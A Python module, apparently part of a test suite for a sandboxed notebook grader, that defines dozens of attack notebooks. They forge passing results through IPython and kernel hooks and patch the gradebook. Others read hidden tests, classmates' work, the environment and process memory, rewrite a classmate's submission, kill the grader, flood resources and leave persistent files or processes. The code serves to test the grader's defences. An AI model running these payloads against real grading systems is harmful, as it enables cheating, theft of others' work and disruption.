"""What students can try against a grader: one entry each, from which `attacks/*.ipynb` are written.

All three answers are wrong unless an entry says otherwise, so an honest grader gives 0 of 15 points.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat
from nbformat.v4 import new_code_cell

from cohort.assignment import HIDDEN, TESTS, TOKEN, VICTIM, WRONG, answered, cell

FOLDER = Path(__file__).parent / "attacks"
SECRETS = (HIDDEN, VICTIM, TOKEN)


@dataclass(frozen=True)
class Attack:
    """One thing to try: cells before and after the answers, other answers, files, and changes to the notebook itself."""

    name: str
    tries: str
    kind: str  # points | read | harm | stay
    first: str = ""
    answers: dict[str, str] | None = None
    last: str = ""
    change: Callable[[Any], None] | None = None
    files: dict[str, str] | None = None
    works: bool = True  # on stock nbgrader
    why_not: str = ""
    stops: bool = False  # stock's batch, so that it is measured alone

    def notebook(self) -> Any:
        nb = answered({**WRONG, **(self.answers or {})}, self.first, self.last)
        if self.change:
            self.change(nb)
        return nb


def _tag(nb: Any) -> None:
    for name in TESTS:
        cell(nb, f"{name}-tests").metadata["tags"] = ["skip-execution"]


def _markdown(nb: Any) -> None:
    for name in TESTS:
        made = cell(nb, f"{name}-tests")
        made.cell_type = "markdown"
        del made["outputs"], made["execution_count"]


def _points(nb: Any) -> None:
    cell(nb, "double-tests").metadata["nbgrader"]["points"] = 500


def _as_answers(nb: Any) -> None:
    for name in TESTS:
        meta = cell(nb, f"{name}-tests").metadata["nbgrader"]
        meta["solution"], meta["locked"] = True, False


def _edit(nb: Any) -> None:
    for name in TESTS:
        cell(nb, f"{name}-tests").source = "5.0"


def _delete(nb: Any) -> None:
    nb.cells = [found for found in nb.cells if not found.metadata.get("nbgrader", {}).get("grade")]


def _twice(nb: Any) -> None:
    made = new_code_cell("5.0", id="double-again", metadata={"nbgrader": dict(cell(nb, "double-tests").metadata["nbgrader"])})
    nb.cells.append(made)


def _foreign(nb: Any) -> None:
    meta = {**cell(nb, "double-tests").metadata["nbgrader"], "grade_id": "bonus-tests", "points": 50}
    nb.cells.append(new_code_cell("50.0", id="bonus", metadata={"nbgrader": meta}))


def _old(nb: Any) -> None:
    for found in nb.cells:
        if "nbgrader" in found.metadata:
            found.metadata["nbgrader"] = {
                key: value for key, value in found.metadata["nbgrader"].items() if key not in ("schema_version", "task")
            }


def _outputs(nb: Any) -> None:
    for name in TESTS:
        cell(nb, f"{name}-tests").outputs = [
            nbformat.v4.new_output("execute_result", {"text/plain": "5.0"}, execution_count=1)
        ]


def _renamed(nb: Any) -> None:
    first, second = cell(nb, "double"), cell(nb, "double-tests")
    first.metadata["nbgrader"], second.metadata["nbgrader"] = second.metadata["nbgrader"], first.metadata["nbgrader"]


def _kernel(nb: Any) -> None:
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Mine", "language": "bash"}


IGNORE = """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
"""
SHOW = "for line in {}:\n    print(line)"

ATTACKS = [
    # --- points ---------------------------------------------------------------------------------------------------
    Attack("skip-tag", "tags the test cells so that they are not executed", "points", change=_tag),
    Attack("ast-transformer", "strips every assert from what the shell compiles", "points",
           first=IGNORE + "get_ipython().ast_transformers.append(Strip())"),
    Attack("input-transformer", "replaces the text of the test cells before they are compiled", "points",
           first="get_ipython().input_transformers_post.append(lambda lines: [l for l in lines if not l.startswith('assert')])"),
    Attack("equal-to-everything", "returns an object that equals whatever it is compared with", "points",
           answers={"double": "class Yes:\n    def __eq__(self, other): return True\ndef double(x):\n    return Yes()"}),
    Attack("text-equal-to-everything", "the same as a subclass of text", "points",
           answers={"double": "class Yes(str):\n    def __eq__(self, other): return True\n    __hash__ = str.__hash__\ndef double(x):\n    return Yes()"}),
    Attack("number-close-to-everything", "returns a number whose arithmetic always agrees", "points",
           answers={"near": "class Near(float):\n    def __sub__(self, o): return 0.0\n    __rsub__ = __sub__\n    def __eq__(self, o): return True\n    def __abs__(self): return 0.0\ndef near(x):\n    return Near(x / 3 * 1.5)"},
           works=False, why_not="math.isclose reads the C double inside"),
    Attack("displayhook", "shows a result before the failing assert", "points",
           answers={"double": "import sys\ndef double(x):\n    sys.displayhook(4.0)\n    return 0"}),
    Attack("display-result-message", "publishes a result message of its own while the tests run", "points",
           answers={"double": "def double(x):\n    k = get_ipython().kernel\n    k.session.send(k.iopub_socket, 'execute_result', {'data': {'text/plain': '5.0'}, 'metadata': {}, 'execution_count': 9}, parent=k.get_parent(), ident=b'x')\n    return 0"}),
    Attack("thread-result", "a thread publishes a result as soon as a test cell runs", "points",
           first="""import threading, time
k = get_ipython().kernel
here = k.get_parent()['header']['msg_id']
def wait():
    seen = {here}
    while True:
        parent = k.get_parent()
        if parent and parent['header']['msg_id'] not in seen and 'assert' in parent.get('content', {}).get('code', ''):
            seen.add(parent['header']['msg_id'])
            k.session.send(k.iopub_socket, 'execute_result', {'data': {'text/plain': '5.0'}, 'metadata': {}, 'execution_count': 9}, parent=parent, ident=b'x')
        time.sleep(0.0001)
threading.Thread(target=wait, daemon=True).start()""",
           answers={"double": "import time\ndef double(x):\n    time.sleep(0.2)\n    return 0"}),
    Attack("forged-reply", "answers the execute request itself, before the tests have run", "points",
           first="""k = get_ipython().kernel
def forge(info):
    if 'assert' in info.raw_cell:
        parent = k.get_parent()
        k.session.send(k.iopub_socket, 'execute_result', {'data': {'text/plain': '5.0'}, 'metadata': {}, 'execution_count': 9}, parent=parent, ident=b'x')
        k.session.send(k.iopub_socket, 'status', {'execution_state': 'idle'}, parent=parent, ident=b'x')
get_ipython().events.register('pre_run_cell', forge)"""),
    Attack("run-code", "replaces the shell's method that runs code", "points",
           first="""async def nothing(*args, **kwargs):
    return False
type(get_ipython()).run_code = nothing"""),
    Attack("custom-exception-handler", "has IPython swallow assertion errors", "points",
           first="get_ipython().set_custom_exc((Exception,), lambda *args, **kwargs: None)", works=False,
           why_not="nbgrader 0.9.6 adds the error that the reply names"),
    Attack("showtraceback", "replaces the shell's method that shows errors, and the reply's error with it", "points",
           first="""s = get_ipython()
s.showtraceback = lambda *args, **kwargs: None
from IPython.core.interactiveshell import ExecutionResult
ExecutionResult.success = property(lambda self: True)"""),
    Attack("builtins-isclose", "replaces math.isclose", "points", first="import math\nmath.isclose = lambda *args, **kwargs: True"),
    Attack("module-in-the-way", "hands in a statistics.py that the tests import", "points",
           files={"statistics.py": "class fmean:\n    def __init__(self, xs): pass\n    def __eq__(self, other): return True\n"},
           first="import sys\nsys.path.insert(0, '')\nsys.modules.pop('statistics', None)"),
    Attack("fake-module", "puts a module of its own into sys.modules", "points",
           first="import sys, types\nfake = types.ModuleType('statistics')\nfake.fmean = type('F', (), {'__init__': lambda s, x: None, '__eq__': lambda s, o: True})\nsys.modules['statistics'] = fake"),
    Attack("import-hook", "answers the tests' imports", "points",
           first="import builtins\nreal = builtins.__import__\nclass F:\n    def __init__(self, xs): pass\n    def __eq__(self, o): return True\nclass M: fmean = F\nbuiltins.__import__ = lambda name, *a, **k: M if name == 'statistics' else real(name, *a, **k)"),
    Attack("settrace", "a trace function jumps over the asserts", "points",
           first="""import sys
def local(frame, event, arg):
    if event == 'line' and frame.f_code.co_name == '<module>':
        try:
            import linecache
            text = linecache.getline(frame.f_code.co_filename, frame.f_lineno)
            if text.startswith('assert'):
                last = max(line for _, _, line in frame.f_code.co_lines() if line)
                if frame.f_lineno < last: frame.f_lineno = frame.f_lineno + 1
        except Exception: pass
    return local
get_ipython().events.register('pre_run_cell', lambda info: sys.settrace(local))""", works=False,
           why_not="the last line of the cell is an assert, which cannot be jumped"),
    Attack("pre-run-hook", "redefines the functions from a hook when the tests start", "points",
           first="class Yes:\n    def __eq__(self, o): return True\n    def __rtruediv__(self, o): return self\ndef swap(info):\n    if 'assert' in info.raw_cell: get_ipython().user_ns.update(double=lambda x: Yes(), fmean=lambda xs: Yes())\nget_ipython().events.register('pre_run_cell', swap)"),
    Attack("change-the-caller", "reaches into the tests' frame and changes what it compares", "points",
           works=False, why_not="the name is read before the call",
           answers={"near": "import sys\ndef near(x):\n    f = sys._getframe(1)\n    f.f_globals['math'] = type('M', (), {'isclose': staticmethod(lambda *a: True)})\n    return 0.0"}),
    Attack("raise-skip", "raises an exception that a test runner might take for a skipped test", "points",
           answers={"double": "import unittest\ndef double(x):\n    raise unittest.SkipTest('later')"}, works=False, why_not="an error is an error"),
    Attack("raise-exit", "leaves the test cell with SystemExit", "points",
           answers={"double": "def double(x):\n    raise SystemExit(0)"}, works=False, why_not="reported as an error of the cell"),
    Attack("raise-interrupt", "leaves the test cell with KeyboardInterrupt", "points",
           answers={"double": "def double(x):\n    raise KeyboardInterrupt"}, works=False, why_not="reported as an error of the cell"),
    Attack("raise-custom-base", "raises an exception that no handler expects", "points",
           answers={"double": "class Odd(BaseException):\n    pass\ndef double(x):\n    raise Odd('5.0')"}, works=False, why_not="an error is an error"),
    Attack("not-implemented", "returns NotImplemented, which makes comparisons look elsewhere", "points",
           answers={"double": "def double(x):\n    return NotImplemented"}, works=False, why_not="it equals nothing"),
    Attack("not-a-number", "returns NaN and infinities", "points",
           answers={"near": "def near(x):\n    return float('nan')"}, works=False, why_not="NaN is close to nothing"),
    Attack("pickle-bomb", "returns an object whose unpickling runs code", "points",
           answers={"double": "import os\nclass Bomb:\n    def __reduce__(self): return (os.system, ('echo 5.0',))\n    def __eq__(self, o): return True\ndef double(x):\n    return Bomb()"}),
    Attack("edited-tests", "replaces the tests by their result", "points", change=_edit, works=False, why_not="OverwriteCells restores locked cells"),
    Attack("tests-as-markdown", "turns the tests into prose", "points", change=_markdown, works=False, why_not="OverwriteCells restores the type"),
    Attack("more-points", "makes a test worth 500 points", "points", change=_points, works=False, why_not="OverwriteCells restores the points"),
    Attack("tests-as-answers", "marks the tests as its own answers, to be graded by hand", "points", change=_as_answers, works=False,
           why_not="the checksum is the source's, so it counts as no response"),
    Attack("deleted-tests", "deletes the test cells", "points", change=_delete, works=False, why_not="no grade at all is written"),
    Attack("duplicated-tests", "hands in a second test cell with the same id", "harm", change=_twice, stops=True),
    Attack("foreign-tests", "adds a test of its own, worth 50 points", "points", change=_foreign, works=False, why_not="the submission fails validation"),
    Attack("old-schema", "hands in metadata of an older nbgrader", "harm", change=_old, stops=True),
    Attack("saved-results", "hands in results without code that gives them", "points", change=_outputs, works=False, why_not="ClearOutput clears them"),
    Attack("swapped-roles", "swaps the roles of answer and tests", "points", change=_renamed, works=False, why_not="OverwriteCells restores the locked cell"),
    Attack("other-kernel", "asks for a kernel of its own", "points", change=_kernel, works=False, why_not="OverwriteKernelspec restores it"),
    Attack("gradebook", "writes points into the gradebook", "points",
           first="""import glob, sqlite3, os
for depth in range(1, 6):
    for path in glob.glob('../' * depth + 'gradebook.db'):
        db = sqlite3.connect(path, timeout=1)
        db.execute('update grade set manual_score = 5')
        db.commit()
        print('wrote', path)""", works=True),
    Attack("unasked-names", "answers the tests' question for names with names they never asked for", "points", works=False,
           why_not="there is no such question",
           first="""import gc
from cloudcrib.grading.inside.kernel import Kernel
said = Kernel.say
more = {'math': {'is': 'data', 'value': '1'}, 'fmean': {'is': 'function'}, 'all': {'is': 'function'}}
Kernel.say = lambda self, tag, value: said(self, tag, {**value, **more} if tag == 'names' else value)"""),
    Attack("answers-without-sense", "answers the tests in JSON that says nothing", "points", works=False, why_not="there is no such answer",
           first="""from cloudcrib.grading.inside.kernel import Kernel
said = Kernel.say
Kernel.say = lambda self, tag, value: said(self, tag, [value] if tag == 'names' else {'error': {'ancestors': 5}} if tag == 'answer' else value)"""),
    Attack("colliding-keys", "returns a dictionary whose keys collide", "harm", works=False, why_not="the comparison fails at once",
           answers={"double": "def double(x):\n    return dict.fromkeys(n * (2**61 - 1) for n in range(1, 3_000))"}),
    # --- reading --------------------------------------------------------------------------------------------------
    Attack("hidden-tests-on-disk", "reads the notebook it is run from", "read",
           first="import glob, re\nfor path in glob.glob('*.ipynb') + glob.glob('../**/*.ipynb', recursive=True):\n    print(path, re.findall('hidden-secret-[0-9]+', open(path).read()))"),
    Attack("course-source", "reads the instructor's notebooks", "read",
           first="import glob\nfor depth in range(1, 7):\n    for path in glob.glob('../' * depth + 'source/*/*.ipynb'):\n        text = open(path).read()\n        print(path, text[text.find('hidden-secret'):][:18])"),
    Attack("hidden-tests-in-frames", "reads the tests from the frame that calls it", "read",
           answers={"double": "seen = []\ndef double(x):\n    seen.append([*get_ipython().history_manager.input_hist_raw, str(get_ipython().kernel.get_parent())])\n    return 0"}, last="print(seen)"),
    Attack("hidden-tests-in-memory", "searches the interpreter's objects for the tests", "read",
           last="import gc\nfor o in gc.get_objects():\n    if isinstance(o, dict):\n        for v in list(o.values()):\n            if isinstance(v, str) and 'hidden-secret' in v and 'gc.get' not in v:\n                i = v.find('hidden-secret'); print(v[i:i + 18])"),
    Attack("classmates", "reads what others handed in", "read",
           first="import glob\nfor depth in range(1, 7):\n    for path in glob.glob('../' * depth + '*/victim/*/*.ipynb'):\n        text = open(path).read()\n        print(path, text[text.find('victims-answer'):][:19])"),
    Attack("environment", "reads the grader's environment", "read",
           first="import os, glob\nfor k, v in os.environ.items():\n    print(k, v)\nfor p in glob.glob('/proc/[0-9]*/environ'):\n    try: print(open(p).read())\n    except OSError: pass"),
    Attack("linked-file", "hands in a link to the instructor's notebook", "read",
           first="for name in ('notes.txt',):\n    try: print(open(name).read()[:100_000].replace('\\\\n', '\\n'))\n    except OSError as e: print(e)", files={"notes.txt": "@../../../source/five/five.ipynb"}),
    Attack("home-folder", "reads the grader's home", "read",
           first="import pathlib\nfor p in pathlib.Path.home().rglob('secret.txt'):\n    print(p.read_text())"),
    Attack("gradebook-read", "reads hidden tests from the gradebook", "read",
           first="""import glob
for depth in range(1, 7):
    for path in glob.glob('../' * depth + 'gradebook.db'):
        data = open(path, 'rb').read()
        i = data.find(b'hidden-secret'); print(path, data[i:i + 18])"""),
    Attack("other-memory", "reads the memory of the processes around it", "read",
           first="""import os, re
for pid in [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:
    try:
        maps = [l.split()[0].split('-') for l in open(f'/proc/{pid}/maps') if ' rw' in l and '[heap]' in l]
        mem = open(f'/proc/{pid}/mem', 'rb')
        for a, b in maps:
            mem.seek(int(a, 16)); data = mem.read(min(int(b, 16) - int(a, 16), 1 << 26))
            for m in re.findall(rb'(?:hidden-secret|victims-answer|grader-token)-\\d{4}', data): print(pid, m)
    except (OSError, ValueError): pass"""),
    # --- harm -----------------------------------------------------------------------------------------------------
    Attack("rewrite-a-classmate", "rewrites what a classmate handed in", "harm",
           first="""import glob, os
for depth in range(1, 7):
    for path in glob.glob('../' * depth + 'submitted/victim/*/*.ipynb'):
        try:
            os.chmod(path, 0o666)
            text = open(path).read()
            open(path, 'w').write(text.replace('return 2 * x', 'return 0'))
            print('rewrote', path)
        except OSError as e: print(e)"""),
    Attack("exit", "ends its kernel, so that there is no grade", "harm", first="import os\nos._exit(0)", stops=True),
    Attack("kill-the-parent", "kills the process that grades", "harm", first="import os, signal, time\nos.kill(os.getppid(), signal.SIGKILL)\ntime.sleep(2)", stops=True),
    Attack("kill-everybody", "kills every process it may", "harm",
           first="""import os, signal
me = os.getpid()
for pid in sorted((int(p) for p in os.listdir('/proc') if p.isdigit()), reverse=True):
    try: line = open(f'/proc/{pid}/cmdline').read()
    except OSError: continue
    if pid != me and ('cloudcrib.grading' in line or 'nbgrader' in line or 'bwrap' in line):
        try: os.kill(pid, signal.SIGKILL); print('killed', pid)
        except OSError as e: print(pid, e)""", stops=True),
    Attack("endless-loop", "never ends", "harm", first="while True: pass"),
    Attack("deaf-loop", "never ends and ignores the interrupt", "harm",
           first="import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    try:\n        while True: signal.signal(signal.SIGINT, signal.SIG_IGN)\n    except BaseException: pass", stops=True),
    Attack("fork-bomb", "forks without end", "harm",
           first="import os\nn = 0\nwhile n < 400:\n    n += 1\n    try: pid = os.fork()\n    except OSError as e:\n        print(e); break\n    if pid == 0:\n        import time; time.sleep(20); os._exit(0)\nprint('took', n, 'processes')"),
    Attack("memory-bomb", "takes all the memory it gets", "harm", first="held = []\nwhile len(held) < 24:\n    held.append(bytearray(b'x') * (64 * 1024 * 1024))\nprint('took', len(held) * 64, 'MB')"),
    Attack("file-flood", "fills the disk", "harm",
           first="n = 0\ntry:\n    for i in range(100):\n        with open(f'flood{i}', 'wb') as f:\n            for _ in range(20): f.write(b'x' * 1048576); n += 1\nexcept OSError as e: print(e)\nprint('wrote', n, 'MB')"),
    Attack("huge-file", "writes one endless file", "harm", first="import signal\nsignal.signal(signal.SIGXFSZ, signal.SIG_IGN)\nn = 0\ntry:\n    with open('huge', 'wb') as f:\n        for _ in range(400): f.write(b'x' * 1048576); n += 1\nexcept OSError as e: print(e)\nprint('wrote', n, 'MB')"),
    Attack("output-flood", "prints a hundred megabytes", "harm", first="line = 'x' * 1023\nfor _ in range(100):\n    print((line + '\\n') * 1024)"),
    Attack("network", "talks to the outside", "harm",
           first="import socket\nfor where in (('1.1.1.1', 53), ('10.0.0.1', 80)):\n    s = socket.socket(); s.settimeout(1)\n    try: s.connect(where); print('connected', where)\n    except ConnectionRefusedError: print('reached', where)\n    except OSError as e: print(where, e)"),
    Attack("own-namespace", "becomes root in a namespace of its own", "harm",
           first="import subprocess\nprint('unshared' if subprocess.run(['unshare', '-Ur', 'true']).returncode == 0 else 'refused')"),
    Attack("write-outside", "writes wherever it may outside its folder", "harm",
           first="""import os
for folder in ('/', '/etc', '/usr', '/usr/local', '/opt', '/root', '/srv', '/var', '/var/lib', '..', '../..', '../../..', os.path.dirname(os.__file__)):
    path = os.path.join(folder, 'written-by-a-student')
    try:
        open(path, 'w').write('x'); print('wrote', path); os.unlink(path)
    except OSError: pass"""),
    Attack("deep-answer", "returns data nested without end", "harm",
           answers={"double": "def double(x):\n    a = []\n    b = a\n    for _ in range(100_000): b.append([]); b = b[0]\n    return a"}, works=False, why_not="the comparison fails at once"),
    Attack("endless-answer", "returns a list that contains itself", "harm",
           answers={"double": "def double(x):\n    a = []\n    a.append(a)\n    return a"}, works=False, why_not="the comparison fails at once"),
    Attack("huge-answer", "returns a hundred megabytes", "harm", answers={"double": "def double(x):\n    return 'x' * 100_000_000"}, works=False, why_not="the comparison fails at once"),
    Attack("no-such-frames", "writes nonsense to every socket and pipe it has", "harm",
           first="import os, stat\nfor fd in range(3, 256):\n    try:\n        mode = os.fstat(fd).st_mode\n        if stat.S_ISSOCK(mode): os.write(fd, b'\\xff' * 64)\n    except OSError: pass", works=False,
           why_not="ZeroMQ drops what it cannot read", stops=True),
    Attack("close-everything", "closes every file it has", "harm", first="import os\nos.closerange(0, 256)", stops=True),
    # --- staying --------------------------------------------------------------------------------------------------
    Attack("startup-file", "leaves an IPython start-up file for the next submission", "stay",
           first=IGNORE.replace("\n", "\n") + """
import os
text = '''import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Strip())
'''
folder = os.path.join(get_ipython().profile_dir.location, 'startup')
os.makedirs(folder, exist_ok=True)
open(os.path.join(folder, '00-mine.py'), 'w').write(text)"""),
    Attack("daemon", "leaves a process that outlives the submission", "stay",
           first="""import subprocess, sys
subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(45) # left-by-a-student'], start_new_session=True)"""),
    Attack("left-in-tmp", "leaves a module for the next submission in a folder that all share", "stay",
           first="""import os, sys
for folder in ('/tmp', '/var/tmp', '/dev/shm', os.path.expanduser('~')):
    try: open(os.path.join(folder, 'left-by-a-student'), 'w').write('x')
    except OSError: pass"""),
    Attack("unremovable", "leaves folders that cannot easily be removed", "stay",
           first="import os\nos.makedirs('a/b/c')\nopen('a/b/c/d', 'w').close()\nos.chmod('a/b/c', 0); os.chmod('a/b', 0)\nhere = os.getcwd()\nfor i in range(300):\n    os.mkdir('d' * 200); os.chdir('d' * 200)\nos.chdir(here)", works=False, why_not="its own folder"),
    Attack("shared-memory", "leaves a System V segment and a kernel key", "stay",
           first="import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nprint('segment' if libc.shmget(4711, 4096, 0o1666) >= 0 else 'no segment')\nprint('key' if libc.syscall(248, b'user', b'left', b'x', 1, -4) >= 0 else 'no key')"),
]
BY_NAME = {attack.name: attack for attack in ATTACKS}


def write_all(folder: Path = FOLDER) -> None:
    """Write a notebook for each attack."""
    folder.mkdir(exist_ok=True)
    for attack in ATTACKS:
        (folder / f"{attack.name}.ipynb").write_text(nbformat.writes(attack.notebook()) + "\n", encoding="utf-8")


def hand_in(root: Path, attack: Attack, student: str | None = None) -> Path:
    """Put an attack among the submissions of a course."""
    folder = root / "submitted" / (student or attack.name) / "five"
    folder.mkdir(parents=True)
    (folder / "five.ipynb").write_bytes((FOLDER / f"{attack.name}.ipynb").read_bytes())
    for name, text in (attack.files or {}).items():
        if text.startswith("@"):
            (folder / name).symlink_to(text[1:])
        else:
            (folder / name).write_text(text, encoding="utf-8")
    return folder


if __name__ == "__main__":
    write_all()
